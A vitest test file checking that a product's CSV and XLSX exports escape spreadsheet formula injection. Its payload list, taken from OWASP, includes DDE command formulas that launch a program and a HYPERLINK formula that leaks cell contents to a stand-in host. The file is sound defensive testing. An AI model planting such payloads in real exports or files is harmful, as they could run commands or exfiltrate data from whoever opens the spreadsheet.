import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import { TEST_PASSWORD, buildAdhesion, buildFirm, buildUser } from '../test/factories.js';
import { startTestApi, type TestApi } from '../test/harness.js';
import { csvCell, csvDocument } from './csv.js';

/**
 * OWASP's CSV injection examples (https://owasp.org/www-community/attacks/CSV_Injection) and their
 * variants: each one is stored as a firm's name (and as a hamlet) by whatever path data arrives, then
 * downloaded through every CSV the product writes.
 */
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=1+2";=1+2`,
  `=1+2'" ;,=1+2`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click")`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `-3`,
  `+39 0583 1`,
  `\t=1+2`,
  `\r=1+2`,
  `Acme;=1+2`,
  `Acme,=1+2`,
  `Acme\t=1+2`,
];

/** The text of a cell without the apostrophes that keep formula characters from running. */
const unescaped = (cell: string) => cell.replace(/'(?=[=+\-@\t\r])/g, '');

/** RFC 4180 fields of one CSV text, split on `separator` (quotes doubled inside quoted fields). */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
  };
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"' && field === '') quoted = true;
    else if (c === separator) endField();
    else if (c === '\r' && text[i + 1] === '\n') {
      endField();
      rows.push(row);
      row = [];
      i++;
    } else field += c;
  }
  if (field !== '' || row.length > 0) {
    endField();
    rows.push(row);
  }
  return rows;
}

/**
 * What a spreadsheet runs as a formula: a cell that, leading blanks and tabs dropped, starts with
 * `=`, `+`, `-` or `@` and is not a plain number.
 */
const runsAsFormula = (cell: string) =>
  /^[=+\-@]/.test(cell.replace(/^\s+/, '')) && !/^[+-]?\d+([.,]\d+)?$/.test(cell.trim());

/** Every cell a spreadsheet would run, whichever separator its locale splits on. */
function formulasIn(csv: string): string[] {
  const body = csv.replace(/^\uFEFF/, '');
  return [';', ',', '\t'].flatMap((sep) => parseCsv(body, sep).flat().filter(runsAsFormula));
}

describe('csvCell', () => {
  it('prefixes an apostrophe to text starting with = + - @ tab or CR and quotes it', () => {
    expect(csvCell('=1+2', { separator: ';' })).toBe(`"'=1+2"`);
    expect(csvCell('=1+2";=1+2', { separator: ';' })).toBe(`"'=1+2"";'=1+2"`);
    expect(csvCell('\t=1+2', { separator: ',' })).toBe(`"'\t'=1+2"`);
    expect(csvCell('-3', { separator: ';' })).toBe(`"'-3"`);
    expect(csvCell('Calzaturificio Alfa', { separator: ';' })).toBe('Calzaturificio Alfa');
  });

  it('also escapes a formula after a separator or line break inside the text', () => {
    expect(csvCell('Acme,=1+2', { separator: ';' })).toBe(`"Acme,'=1+2"`);
    expect(csvCell('=1+2\'" ;,=1+2', { separator: ';' })).toBe(`"'=1+2'"" ;,'=1+2"`);
    expect(csvCell('a\n @x', { separator: ',' })).toBe(`"a\n '@x"`);
  });

  it('keeps numbers numbers, negative ones included, with a decimal comma when asked', () => {
    expect(csvCell(-3, { separator: ';' })).toBe('-3');
    expect(csvCell(-1.5, { separator: ';', decimalComma: true })).toBe('-1,5');
    expect(csvCell(12.5, { separator: ',' })).toBe('12.5');
    expect(csvCell(Number.NaN, { separator: ';' })).toBe('');
    const doc = csvDocument([['Saldo', -42, -0.5]], { separator: ';', decimalComma: true });
    expect(parseCsv(doc.slice(1), ';')).toEqual([['Saldo', '-42', '-0,5']]);
  });

  it('quotes either separator, so no locale splits a cell into a formula', () => {
    for (const payload of PAYLOADS) {
      const doc = csvDocument([[payload]], { separator: ';' });
      expect(formulasIn(doc), payload).toEqual([]);
      const [[cell]] = parseCsv(doc.slice(1), ';') as [[string]];
      expect(unescaped(cell), payload).toBe(payload);
    }
  });
});

describe('every CSV export, attacked with formula payloads', () => {
  let api: TestApi;
  let adminCookie: string;
  const hamlet = 'Frazione Formula';

  beforeAll(async () => {
    api = await startTestApi();
    for (const payload of PAYLOADS) {
      const firm = await buildFirm(api.ds, {
        legalName: payload,
        tradeName: payload,
        hamlet,
        municipality: payload,
        phone: payload,
        website: payload,
      });
      await buildAdhesion(api.ds, { firmId: firm.id, status: 'SIGNED' });
    }
    // A hamlet of its own per payload, for the report's "firms by hamlet" table.
    for (const payload of PAYLOADS) await buildFirm(api.ds, { hamlet: payload });
    const admin = await buildUser(api.ds, 'ADMIN');
    adminCookie = await api.signIn(admin.email, TEST_PASSWORD);
  });
  afterAll(async () => {
    await api.close();
  });

  const download = async (path: string) => {
    const res = await fetch(`${api.url}${path}`, { headers: { cookie: adminCookie } });
    expect(res.status, path).toBe(200);
    return res;
  };

  /** Each payload reaches the file whole, as text a person can read, and nothing in it runs. */
  const expectDefused = (csv: string, separator: string) => {
    expect(formulasIn(csv)).toEqual([]);
    const cells = new Set(
      parseCsv(csv.replace(/^\uFEFF/, ''), separator)
        .flat()
        .map(unescaped),
    );
    for (const payload of PAYLOADS) expect(cells.has(payload), payload).toBe(true);
  };

  it('the firm directory CSV', async () => {
    const csv = await (
      await download(`/api/firms/export.csv?hamlets=${encodeURIComponent(hamlet)}&lang=it`)
    ).text();
    expect(parseCsv(csv, ';')).toHaveLength(PAYLOADS.length + 1);
    expectDefused(csv, ';');
  });

  it('the contract participants CSV', async () => {
    expectDefused(await (await download('/api/contract/participants.csv')).text(), ',');
  });

  it('the report CSV', async () => {
    expectDefused(await (await download('/api/reports/overview.csv?lang=en')).text(), ';');
  });

  it('the firm directory XLSX holds them as text cells, never formulas', async () => {
    const bytes = await (
      await download(`/api/firms/export.xlsx?hamlets=${encodeURIComponent(hamlet)}&lang=en`)
    ).arrayBuffer();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes);
    const names = new Set<unknown>();
    workbook.getWorksheet('Firms')!.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula).toBeUndefined();
      });
      names.add(row.getCell(1).value);
    });
    // XML keeps no lone carriage return: it reads back as a line feed.
    expect(names).toEqual(new Set(PAYLOADS.map((p) => p.replace('\r', '\n'))));
  });
});
